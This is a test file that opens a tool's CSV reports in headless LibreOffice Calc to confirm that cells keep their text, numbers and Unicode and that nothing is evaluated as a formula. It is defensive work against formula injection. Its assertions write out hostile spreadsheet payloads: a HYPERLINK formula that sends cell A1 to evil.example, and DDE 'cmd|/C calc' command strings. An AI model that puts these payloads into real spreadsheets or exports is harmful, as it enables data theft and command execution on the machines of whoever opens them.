// Every CSV report opened in a real spreadsheet (LibreOffice Calc, headless): the cells it reads back
// are the cells we meant — text intact, numbers as numbers, nothing evaluated as a formula, even with
// formula evaluation switched on and an article built to attack spreadsheets.
import { spawnSync } from 'node:child_process';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { HOSTILE, readCsv, runCli, tempDir } from '../helpers.js';
import { readFlatOds, type SheetCell } from './fods.js';

const hasLibreOffice = spawnSync('soffice', ['--version'], { encoding: 'utf8' }).status === 0;
if (!hasLibreOffice) {
  console.warn('\n*** SKIPPING the LibreOffice spreadsheet test: `soffice` is not installed (.ci/run installs libreoffice-calc). ***\n');
}

const DIALECTS = {
  // CSV import options: separator, quote ("), UTF-8 (76), from row 1, no column types, locale,
  // quoted fields not forced to text, detect special numbers, ..., evaluate formulas = true (the
  // dangerous setting: what a double-click in a spreadsheet does).
  excel: { delimiter: ',', filter: 'CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true', number: /^-?\d+(?:\.\d+)?(?:e-?\d+)?$/ },
  'excel-eu': { delimiter: ';', filter: 'CSV:59,34,76,1,,1031,false,true,false,false,false,-1,true', number: /^-?\d+(?:,\d+)?(?:e-?\d+)?$/ },
} as const;

const ISO_DATE = /^\d{4}-\d{2}-\d{2}(?:T\d{2}:\d{2})?$/;

/** Converts every CSV of a directory to Flat ODS in one LibreOffice call; returns sheets by report name. */
function openInLibreOffice(dir: string, filter: string): Record<string, SheetCell[][]> {
  const csvFiles = readdirSync(dir).filter((name) => name.endsWith('.csv'));
  const converted = tempDir('lo-out-');
  const profile = tempDir('lo-profile-');
  const run = spawnSync(
    'soffice',
    [`-env:UserInstallation=file://${profile}`, '--headless', `--infilter=${filter}`, '--convert-to', 'fods', '--outdir', converted, ...csvFiles.map((name) => join(dir, name))],
    { encoding: 'utf8', timeout: 240_000 },
  );
  expect(run.status, run.stderr).toBe(0);
  return Object.fromEntries(csvFiles.map((name) => [name.replace(/\.csv$/, ''), readFlatOds(readFileSync(join(converted, name.replace(/\.csv$/, '.fods')), 'utf8'))]));
}

describe.skipIf(!hasLibreOffice)('reports opened in LibreOffice Calc', () => {
  for (const [dialect, { delimiter, filter, number }] of Object.entries(DIALECTS)) {
    describe(dialect, async () => {
      const dir = tempDir();
      const config = join(dir, 'config.json');
      writeFileSync(config, JSON.stringify({ csv: { dialect } }));
      const output = join(dir, 'out');
      const run = await runCli(['--config', config, '--input', join(HOSTILE, 'formulas.jsonl'), '--output', output, '--quiet']);
      // vitest collects a skipped suite's body too: without LibreOffice, nothing to open.
      const sheets = hasLibreOffice && run.code === 0 ? openInLibreOffice(output, filter) : {};
      const csv = (name: string) => readCsv(join(output, `${name}.csv`), delimiter);

      it('the run succeeds', () => expect(run.code).toBe(0));

      it('every cell reads back as meant: no formula, numbers as numbers, text unchanged', () => {
        expect(Object.keys(sheets).sort()).toEqual(['articles', 'corpus_terms', 'errors', 'keyphrases', 'removed_lines', 'sentences', 'terms']);
        let numbers = 0;
        for (const [name, sheet] of Object.entries(sheets)) {
          const rows = csv(name);
          expect(sheet.length, name).toBe(rows.length);
          rows.forEach((row, r) => {
            row.forEach((text, c) => {
              const cell = sheet[r]![c] ?? { type: 'empty', text: '', value: null, formula: null };
              const where = `${name}.csv row ${r + 1} column ${rows[0]![c]}: ${JSON.stringify(text)}`;
              expect(cell.formula, where).toBeNull();
              if (text === '') expect(cell.type, where).toBe('empty');
              else if (number.test(text)) {
                numbers++;
                expect([cell.type, cell.value], where).toEqual(['float', Number(text.replace(',', '.'))]);
              } else if (ISO_DATE.test(text)) expect(cell.type, where).toBe('date');
              else expect([cell.type, cell.text], where).toEqual(['string', text]);
            });
          });
        }
        expect(numbers).toBeGreaterThan(20);
      });

      it('the hostile title, byline, source and url are shown as inert text', () => {
        const [header, ...rows] = sheets.articles!;
        const column = (name: string) => header!.findIndex((cell) => cell.text === name);
        const hostile = rows.find((row) => row[column('article_id')]!.text === 'hostile')!;
        expect(hostile[column('title')]).toMatchObject({ type: 'string', formula: null, text: `'=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")` });
        expect(hostile[column('byline')]).toMatchObject({ type: 'string', text: `'+cmd|' /C calc'!A0` });
        expect(hostile[column('source')]).toMatchObject({ type: 'string', text: `'@SUM(1+1)*cmd|' /C calc'!A0` });
        expect(hostile[column('url')]).toMatchObject({ type: 'string', text: `'-2+3+cmd|' /C calc'!A0` });
        expect(hostile[column('words')]!.type).toBe('float');
        expect(hostile[column('sentiment')]!.type).toBe('float');
      });

      it('accents, Cyrillic and emoji arrive intact', () => {
        const [header, ...rows] = sheets.articles!;
        const column = (name: string) => header!.findIndex((cell) => cell.text === name);
        const plain = rows.find((row) => row[column('article_id')]!.text === 'plain')!;
        expect(plain[column('title')]!.text).toBe('Résumé of the Привет budget 👍');
        expect(plain[column('byline')]!.text).toBe('Zoë Ångström');
        const sentences = sheets.sentences!.map((row) => row.map((cell) => cell.text).join(' ')).join('\n');
        expect(sentences).toContain('Москва and Київ');
        expect(sentences).toContain('naïve café owners 🎉');
      });

      it('sentences that start with a formula character are text', () => {
        const texts = sheets.sentences!.slice(1).map((row) => row[2]!);
        const starts = texts.filter((cell) => /^'[=+\-@]/.test(cell.text));
        expect(starts.map((cell) => cell.text.slice(0, 6)).sort()).toEqual(["'+Plus", "'-Minu", "'=HYPE", "'@Ment"]);
        for (const cell of starts) expect(cell).toMatchObject({ type: 'string', formula: null });
      });
    });
  }
});

// The import filters docs/reference.md tells a user to convert with. `CSV:59,34,76,1` for excel-eu
// left the locale to the machine's: under an English one LibreOffice read `0,585` as 585 and
// `-0,1819` as text, a sentiment column of wrong numbers and strings.
describe.skipIf(!hasLibreOffice)('the import filters docs/reference.md gives read every number as the number written', () => {
  const reference = readFileSync(join(import.meta.dirname, '..', '..', 'docs', 'reference.md'), 'utf8');
  const documented = (separator: number): string => {
    const filter = new RegExp(`\`(?:--infilter="?)?(CSV:${separator},34,76,1[^\`"]*)"?\``).exec(reference)?.[1];
    expect(filter, `CSV:${separator} in docs/reference.md`).toBeDefined();
    return filter!;
  };
  for (const [dialect, { delimiter, number }] of Object.entries(DIALECTS)) {
    it(dialect, async () => {
      const dir = tempDir();
      writeFileSync(join(dir, 'config.json'), JSON.stringify({ csv: { dialect } }));
      const output = join(dir, 'out');
      expect((await runCli(['--config', join(dir, 'config.json'), '--input', join(HOSTILE, 'formulas.jsonl'), '--output', output, '--quiet'])).code).toBe(0);
      const sheet = openInLibreOffice(output, documented(delimiter.charCodeAt(0))).sentences!;
      const rows = readCsv(join(output, 'sentences.csv'), delimiter);
      const column = rows[0]!.indexOf('sentiment');
      const scores = rows.slice(1).map((row, r) => ({ text: row[column]!, cell: sheet[r + 1]![column] })).filter(({ text }) => number.test(text));
      expect(scores.length).toBeGreaterThan(5);
      for (const { text, cell } of scores) expect([cell?.type, cell?.value], text).toEqual(['float', Number(text.replace(',', '.'))]);
    }, 120_000);
  }
});
